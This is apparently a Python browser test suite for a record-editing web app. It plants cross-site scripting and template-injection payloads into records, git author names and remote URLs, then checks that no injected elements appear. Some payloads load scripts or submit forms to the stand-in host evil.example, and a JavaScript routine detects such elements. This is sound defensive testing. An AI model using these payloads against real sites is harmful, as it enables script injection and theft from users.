"""Records whose texts are meant to be taken for something else, and records that are broken."""
import itertools
import json
import os
import pathlib

from trial import beside, case, field, press, save, show, text

ROOT = pathlib.Path(__file__).resolve().parent.parent.parent
SUITES = pathlib.Path(os.environ.get("FIELDBOOK_SUITES", ROOT / "../shared/suites"))
COUNTY = "counties/01"
# Each would show itself: by a dialog, a request, an element or a template's value.
PAYLOADS = [
    "<script>alert(1)</script>", "\"><script src=http://evil.example/x.js></script>",
    "'><img src=http://evil.example/x.png onerror=alert(2)>", "</textarea><script>alert(3)</script>",
    "</title></style><svg onload=alert(4)>", "\" autofocus onfocus=alert(5) x=\"",
    "javascript:alert(6)", "{{frame.token}} {{{frame.token}}} {{> layout}}", "--><script>alert(7)</script>",
    "</option></select><iframe src=//evil.example>", "]]><a href=javascript:alert(8)>x</a>",
    "&lt;script&gt;alert(9)&lt;/script&gt; &amp; &#60;b&#62;",
    "</details></main></body><form action=//evil.example>",
    "[x](javascript:alert(10)) ![x](http://evil.example/y.png) <base href=//evil.example/>"]
STRANGE = """() => {
  const found = [...document.querySelectorAll("script, iframe, object, embed, base, img, link, svg")]
    .filter((one) => !one.matches(
      "script[src='/editor.js'], img.map, link[rel=stylesheet], link[rel=icon]"));
  for (const one of document.querySelectorAll("*")) {
    const names = [...one.attributes].map((attribute) => attribute.name);
    if (names.some((name) => name.startsWith("on") || name === "autofocus")) found.push(one);
    const address = one.getAttribute("href") || one.getAttribute("action") || "";
    if (/^\\s*(javascript|data):/i.test(address)) found.push(one);
    if (one.tagName === "FORM" && new URL(one.action).origin !== location.origin) found.push(one);
  }
  return found.map((one) => one.outerHTML.slice(0, 200));
}"""


def naughty():
    """The suite's strings, without what JSON files do not hold."""
    path = SUITES / "security/blns/blns.json"
    if not path.exists():
        raise FileNotFoundError(f"{path} is missing; FIELDBOOK_SUITES should name the folder of the suites")
    return [one for one in json.loads(path.read_text(encoding="utf-8")) if one]


def texts(value, place=()):
    """The places of the texts in a value."""
    if isinstance(value, str):
        yield place
    elif isinstance(value, (dict, list)):
        for name, inner in value.items() if isinstance(value, dict) else enumerate(value):
            yield from texts(inner, (*place, name))


def lines(text):
    """A text with the ends of lines that browsers make of all."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def placed(value, place, new):
    for name in place[:-1]:
        value = value[name]
    old, value[place[-1]] = value[place[-1]], new
    return old


def faults_of(book):
    """The places of errors, as the program names them: file and pointer."""
    report = json.loads(book.run("validate", "--format", "json", check=False))
    return {(one["path"], one.get("pointer", "")) for one in report["findings"]
            if one.get("severity") == "error"}


def plant(book, keys, strings):
    """Puts strings into all texts of records; where a text may not be so, a shorter one, or the old."""
    supply, payloads = itertools.cycle(strings), itertools.cycle(PAYLOADS)
    candidates = {}
    for key in keys:
        record = book.read(key)
        for place in texts(record):
            if place[0] != "id" and place[-1] != "key":
                payload = next(payloads)
                long = "\n".join([payload, *itertools.islice(supply, 4)])
                line = payload + " " + next(supply)
                candidates[key, place] = [long, line, payload]
    old = {one: placed_in(book, one, values[0]) for one, values in candidates.items()}
    for attempt in [1, 2, 3, 4]:
        errors = faults_of(book)
        for one, values in candidates.items():
            path, pointer = f"dataset/{one[0]}.json", "/" + "/".join(map(str, one[1]))
            # What is said of the record as a whole may be over with the texts that cannot be so.
            is_wrong = any(path == file and ((where + "/").startswith(pointer + "/") or attempt == 4)
                           for file, where in errors)
            if is_wrong:
                placed_in(book, one, values[attempt] if attempt < 3 else old[one])
    return [one for one in candidates if placed_text(book, one) != old[one]]


def placed_in(book, one, new):
    key, place = one
    record = book.read(key)
    old = placed(record, place, new)
    book.write(key, record)
    return old


def placed_text(book, one):
    value = book.read(one[0])
    for name in one[1]:
        value = value[name]
    return value


def harmless(trial, tab, path, statuses=(200,)):
    status = show(tab, path)
    trial.expect(status in statuses, f"{path}: {status}")
    for element in tab.evaluate(STRANGE)[:3]:
        trial.expect(False, f"{path} has {element}")


def longest(book, collection):
    """The record of a collection with the most texts."""
    files = sorted((book.folder / "dataset" / collection).glob("*.json"))
    return max((f"{collection}/{one.stem}" for one in files),
               key=lambda key: len(list(texts(book.read(key)))))


@case
def naughty_strings(trial):
    book = trial.book(is_served=False)
    collections = sorted(one.name for one in (book.folder / "dataset").iterdir())
    keys = [longest(book, collection) for collection in collections]
    planted = plant(book, keys, naughty())
    trial.same(sorted({key for key, _ in planted}), keys, "the records that took strings")
    trial.same(faults_of(book), set(), "errors of the fieldbook")
    book.run("format", check=False)
    tab = trial.tab(book.serve())
    for collection, key in zip(collections, keys):
        harmless(trial, tab, f"/records/{collection}")
        harmless(trial, tab, f"/records/{key}")
        shown = {name: tab.evaluate("(name) => document.getElementsByName(name)[0]?.value",
                                    "/" + "/".join(map(str, name)))
                 for one, name in planted if one == key}
        record = {name: placed_text(book, (key, name)) for name in shown}
        for name, value in shown.items():
            if value is not None:
                trial.same(lines(value), lines(record[name]), f"{key} {name}")
        before = book.path(key).read_bytes()
        status = save(tab)
        trial.expect(status == 200, f"saving {key} as it is: {status} {text(tab)[:300]}")
        trial.same(book.path(key).read_bytes(), before, f"{key} saved as it is")
        harmless(trial, tab, f"/records/{key}/delete")
    book.run("save", check=False)
    for key in keys:
        harmless(trial, tab, f"/records/{key}/history")
    head = book.git("rev-parse", "HEAD").strip()
    for path in ["/", "/sync", "/conflicts", "/settings", f"/changes/{head}",
                 "/search?q=script", "/search?q=alert",
                 "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/records/counties?q=%22%3E%3Cscript%3E",
                 "/records/counties?where=name%3D%3Cscript%3Ealert(1)%3C/script%3E&sort=%3Cscript%3E",
                 "/records/counties?done=%3Cscript%3E",
                 "/new/counties?name=%22%3E%3Cscript%3Ealert(1)%3C/script%3E"]:
        harmless(trial, tab, path)
    for path in ["/%3Cscript%3E", "/records/%3Cimg%20src=x%20onerror=alert(1)%3E"]:
        harmless(trial, tab, path, (404,))


@case
def naughty_reports(trial):
    """The reports as the editor shows them, of records with such texts."""
    book = trial.book(is_served=False)
    keys = [longest(book, one.name) for one in sorted((book.folder / "dataset").iterdir())]
    plant(book, keys, naughty())
    tab = trial.tab(book.serve())
    pages = [f"/reports/sv/{one.name}" for one in sorted((book.folder / "reports/sv").glob("*.html"))]
    pages += [f"/reports/en/{one.name}" for one in sorted((book.folder / "reports/en").glob("*.html"))][:3]
    municipality = next(key for key in keys if key.startswith("municipalities/")).split("/")[1]
    pages += ["/" + str(one.relative_to(book.folder))
              for one in (book.folder / "reports/sv").rglob(f"*{municipality}*.html")]
    for path in pages:
        status = show(tab, path)
        trial.expect(status == 200, f"{path}: {status}")
        strange = tab.evaluate("""() => [...document.querySelectorAll(
          "script, iframe, object, embed, base, form:not([action='/search']), [onload], [onerror], [onfocus], [src^='http'], " +
          "[href^='javascript']")]
          .map((one) => one.outerHTML.slice(0, 200))""")
        trial.expect(not strange, f"{path} has {strange[:3]}")


@case
def naughty_people(trial):
    """Names of authors, remotes and drafts that are meant to be taken for something else."""
    bare, anna, bo = trial.team()
    for book, word in [(anna, PAYLOADS[0]), (bo, PAYLOADS[2])]:
        book.git("config", "user.name", "A' \" onclick=alert(2) x=\" {{frame.token}} &lt;b&gt;")
        book.change(COUNTY, short_name=word, name=word + "!")
        book.sync()
    tab = trial.tab(bo.serve())
    for path in ["/", "/conflicts", "/sync", "/settings", f"/records/{COUNTY}", f"/records/{COUNTY}/history"]:
        harmless(trial, tab, path)
    show(tab, f"/records/{COUNTY}")
    field(tab, "/letter").fill(PAYLOADS[1])
    trial.same(save(tab), 422, "a payload that is not valid")
    trial.expect(not tab.evaluate(STRANGE), f"the form with errors has {tab.evaluate(STRANGE)}")
    show(tab, "/conflicts")
    press(tab, tab.locator("[name=choice]").first)
    bo.git("remote", "set-url", "origin", "/x/<img src=x onerror=alert(1)>")
    show(tab, "/sync")
    press(tab, 'main form button[value=""]')
    tab.locator('main section[role="status"]').wait_for()
    trial.expect(not tab.evaluate(STRANGE), f"the receipt has {tab.evaluate(STRANGE)}")


@case
def broken_file(trial):
    book = trial.book()
    tab = trial.tab(book)
    good = book.path(COUNTY).read_text(encoding="utf-8")
    for broken in [good.replace('"code"', 'code'), "", "[]", "<<<<<<< ours\n" + good, good + "}",
                   '"</textarea><b>"']:
        book.path(COUNTY).write_text(broken, encoding="utf-8")
        show(tab, "/")
        trial.expect("› 01 ›" in text(tab), f"the overview does not name the record that is {broken[:20]!r}")
        show(tab, f"/records/{COUNTY}")
        trial.expect(tab.locator("#text").count() == 1,
                     f"{broken[:20]!r} is not shown as text: {text(tab)[:200]}")
        trial.expect(text(tab, "main [role=alert]"), "the error is not shown")
        trial.same(tab.locator("#text").input_value(), broken, "the text shown")
        tab.locator("#text").fill(broken + "{")
        trial.same(save(tab), 422, "saving it broken")
        trial.same(tab.locator("#text").input_value(), broken + "{", "what was typed")
        trial.same(book.path(COUNTY).read_text(encoding="utf-8"), broken, "the file")
        tab.locator("#text").fill(good)
        trial.same(save(tab), 200, "saving it mended")
        trial.same(book.path(COUNTY).read_text(encoding="utf-8"), good, "the file")
        trial.same(field(tab, "/name").count(), 1, "the form of the mended record")
    book.path(COUNTY).write_bytes(b'{"name": "\xff"}')
    trial.expect(show(tab, f"/records/{COUNTY}") == 200 and tab.locator("pre").count() == 1,
                 "a file that is no UTF-8 is not shown")
    trial.same(tab.locator("textarea").count(), 0, "boxes to edit a file that is no UTF-8")
    trial.same(press(tab, 'form[action$="/restore"] button'), 200, "bringing back what could be read")
    trial.same(book.path(COUNTY).read_text(encoding="utf-8"), good, "the file that could be read")


@case
def invalid_record(trial):
    book = trial.book()
    tab = trial.tab(book)
    record = book.read(COUNTY)
    good = dict(record)
    record |= {"short_name": 7, "letter": "lower", "tile": {"column": "x"}, "sources": "none"}
    record.pop("wikidata")
    book.write(COUNTY, record)
    trial.same(show(tab, f"/records/{COUNTY}"), 200, "the status")
    for name in ["/short_name", "/letter", "/wikidata"]:
        trial.expect(beside(tab, name), f"nothing is said beside {name}")
    trial.expect("olumn" in text(tab, "#problems") and "ources" in text(tab, "#problems"),
                 f"the summary lacks some: {text(tab, '#problems')}")
    trial.same(save(tab), 422, "saving it as it is")
    trial.same(book.read(COUNTY), record, "the record")
    for name, value in {"/short_name": good["short_name"], "/letter": good["letter"],
                        "/wikidata": good["wikidata"], "/tile/column": "4", "/tile/row": "5",
                        "/sources": json.dumps(good["sources"])}.items():
        if trial.expect(field(tab, name).count() == 1, f"there is no field {name} to mend"):
            field(tab, name).fill(value)
    status = save(tab)
    trial.expect(status == 200, f"saving it mended: {status}, {text(tab)[:300]}")
    trial.same(book.read(COUNTY), good, "the mended record")
    record = good | {"nothing": "x", "extra": {"deep": [1]}}
    book.write(COUNTY, record)
    show(tab, f"/records/{COUNTY}")
    trial.expect("nothing" in text(tab),
                 f"a field that no schema has is not named: {text(tab)[:300]}")
    field(tab, "/short_name").fill("With extras")
    save(tab)
    seen = book.read(COUNTY)
    trial.expect(seen.get("extra") == {"deep": [1]}, "saving lost a field that the form does not show")


@case
def names_in_files(trial):
    """A record whose file has another id, and schemas and settings that are broken."""
    book = trial.book()
    tab = trial.tab(book)
    book.change(COUNTY, id="other")
    trial.expect(show(tab, f"/records/{COUNTY}") == 200 and tab.locator("main .problem").count(),
                 f"an id unlike the file's name is not named: {text(tab)[:300]}")
    book.change(COUNTY, id="01")
    settings = book.folder / "fieldbook.json"
    good = settings.read_text(encoding="utf-8")
    settings.write_text("{")
    status = show(tab, "/")
    trial.expect("fieldbook.json" in text(tab), f"broken settings: {status} {text(tab)[:300]}")
    settings.write_text(good, encoding="utf-8")
    schema = book.folder / "schemas/counties.schema.json"
    good = schema.read_text(encoding="utf-8")
    schema.write_text("{")
    status = show(tab, "/")
    trial.expect("counties.schema.json" in text(tab), f"a broken schema: {status} {text(tab)[:300]}")
    schema.write_text(good, encoding="utf-8")
    trial.same(show(tab, "/"), 200, "the overview after all is mended")
